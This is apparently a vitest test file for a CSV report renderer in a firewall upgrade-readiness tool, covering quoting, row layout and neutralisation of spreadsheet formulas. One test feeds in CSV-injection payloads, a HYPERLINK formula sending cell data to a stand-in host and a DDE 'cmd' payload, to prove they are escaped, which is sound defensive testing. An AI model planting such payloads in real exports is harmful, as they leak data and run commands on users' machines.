// CSV: parsed back with csv-parse (RFC 4180), one row per finding, every device present, and cells that a
// spreadsheet would run as a formula neutralised.

import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { CSV_COLUMNS, neutraliseFormula, renderCsv } from "../../src/report/csv.js";
import { sampleReport } from "./sample-report.js";

function rows(text: string): Record<string, string>[] {
  return parse(text, { columns: true, record_delimiter: "\r\n", relax_quotes: false }) as Record<string, string>[];
}

describe("renderCsv", () => {
  const text = renderCsv(sampleReport());
  const records = rows(text);

  it("has the documented header and CRLF line ends", () => {
    expect(text.split("\r\n")[0]).toBe(CSV_COLUMNS.join(","));
    expect(text.endsWith("\r\n")).toBe(true);
    expect(text.replace(/\r\n/g, "")).not.toMatch(/\r(?!\n)/);
  });

  it("writes one row per finding, one per finding-less problem, and one per device with nothing else", () => {
    const byDevice = (name: string) => records.filter((r) => r.device === name);
    expect(byDevice("fw-dc1-edge-02").map((r) => [r.check, r.key, r["check status"]])).toEqual([
      ["panos-transceivers-supported", "ethernet1/21", "fail"],
      ["panos-transceivers-supported", "ethernet1/22", "fail"],
      ["panos-panrepo-free-space", "/opt/panrepo", "fail"],
      ["panos-no-uncommitted-changes", "", "warn"],
    ]);
    expect(byDevice("fw-dc1-edge-01")).toEqual([expect.objectContaining({ status: "ready", check: "", message: "" })]);
    expect(byDevice("fw-branch-07")).toEqual([expect.objectContaining({ status: "unreachable", message: "connect ECONNREFUSED 10.20.7.1:22" })]);
    expect(byDevice("fw-dc2-core-01")[0]).toMatchObject({ "check status": "error", message: expect.stringMatching(/^could not parse/) });
    expect(new Set(records.map((r) => r.device))).toEqual(new Set(sampleReport().devices.map((d) => d.name)));
  });

  it("keeps commas, quotes, newlines and hops intact through quoting", () => {
    const optic = records.find((r) => r.key === "ethernet1/21")!;
    expect(optic).toMatchObject({
      hop: "10.2.0",
      groups: "firewalls;datacenter",
      actual: "vendor: FINISAR CORP., part: FTLX8571D3BCL, serial: AQJ0G3K",
      severity: "critical",
      remediation: "Replace these optics with supported models, or remove them, before upgrading.",
    });
    const report = sampleReport();
    report.devices[1]!.checks[0]!.findings[0]!.message = `line one, "quoted"\nline two`;
    expect(rows(renderCsv(report)).find((r) => r.key === "ethernet1/21")!.message).toBe(`line one, "quoted"\nline two`);
  });

  it("neutralises cells that a spreadsheet would evaluate", () => {
    const report = sampleReport();
    const finding = report.devices[1]!.checks[0]!.findings[0]!;
    finding.key = "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")";
    finding.message = "+cmd|' /C calc'!A0";
    finding.actual = "@SUM(1+1)";
    finding.expected = "-2+3";
    report.devices[1]!.name = "=1+1";
    const r = rows(renderCsv(report)).find((x) => x.device === "'=1+1" && x.check === "panos-transceivers-supported")!;
    expect(r.key).toBe(`'=HYPERLINK("http://x.example/?"&A1,"click")`);
    expect(r.message).toBe("'+cmd|' /C calc'!A0");
    expect(r.actual).toBe("'@SUM(1+1)");
    expect(r.expected).toBe("'-2+3");
    expect(neutraliseFormula("\t=1")).toBe("'\t=1");
    expect(neutraliseFormula("fw-01")).toBe("fw-01");
  });

  it("shows control characters as visible symbols", () => {
    const report = sampleReport();
    report.devices[1]!.checks[0]!.findings[0]!.message = "a\u001b[31mb\u0000";
    expect(rows(renderCsv(report)).find((r) => r.key === "ethernet1/21")!.message).toBe("a\u241b[31mb\u2400");
  });
});
